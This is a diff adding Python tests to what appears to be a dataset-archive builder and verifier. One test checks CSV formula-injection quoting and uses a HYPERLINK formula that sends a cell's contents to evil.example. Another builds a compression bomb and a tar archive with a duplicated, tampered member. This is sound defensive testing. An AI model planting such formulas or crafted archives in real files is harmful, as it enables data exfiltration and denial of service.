@@ -878,3 +878,46 @@ def test_verify_checks_an_unpacked_folder(corpus, tmp_path):
     assert verify_bundle(folder) == [
         f"slides.csv: checksum mismatch (SHA256SUMS {listed[:12]}…, actual {actual[:12]}…)",
         "notes.txt: not listed in SHA256SUMS"]
+
+
+def test_text_a_spreadsheet_would_run_is_quoted_in_slides_csv_and_kept_in_jsonl(corpus, tmp_path):
+    slides, decks = corpus
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    decks["acme"].company = formula
+    # U+2028 in a JSON string is raw, and str.splitlines breaks there: verify cut the line
+    slides[0].ocr.text = "-20% churn\u2028@everyone +1"
+    _build((slides, decks), tmp_path)
+    archive = tmp_path / archive_name("1")
+    members = _members(archive)
+    table = list(csv.DictReader(io.StringIO(members[f"{ROOT}/slides.csv"].decode())))
+    assert table[0]["company"] == "'" + formula and table[0]["text"].startswith("'-20% churn")
+    rows = [json.loads(line) for line in members[f"{ROOT}/metadata.jsonl"].decode().split("\n")
+            if line]
+    assert rows[0]["company"] == formula and rows[0]["text"] == "-20% churn\u2028@everyone +1"
+    assert "starts with `'` there" in members[f"{ROOT}/README.md"].decode()
+    assert verify_bundle(archive) == []
+
+
+def test_verify_does_not_hold_a_compression_bomb_or_trust_a_member_given_twice(corpus, tmp_path):
+    _build(corpus, tmp_path)
+    archive = tmp_path / archive_name("1")
+    bomb = 70 << 20  # zeros: ~70 KB compressed, past 64 MiB of text
+    _rewrite(archive, lambda name, data: b"\0" * bomb if name == "README.md" else data)
+    assert archive.stat().st_size < 1 << 20
+    problems = verify_bundle(archive)
+    assert f"README.md: {bomb:,} bytes of text, more than 20 times the download; not read " \
+           "(a compression bomb?)" in problems
+    _build(corpus, tmp_path)  # a good archive, then a bad copy of one image before the real one
+    first = next(n for n in _members(archive) if n.endswith(".webp"))
+    with tarfile.open(archive, "r:gz") as src:
+        members = [(m, src.extractfile(m).read() if m.isfile() else None) for m in src]
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w:gz") as dst:
+        for member, data in members:
+            if member.name == first:
+                fake = tarfile.TarInfo(first)
+                fake.size = 4
+                dst.addfile(fake, io.BytesIO(b"evil"))
+            dst.addfile(member, io.BytesIO(data) if data is not None else None)
+    archive.write_bytes(out.getvalue())
+    assert f"{first}: in the archive twice" in verify_bundle(archive)
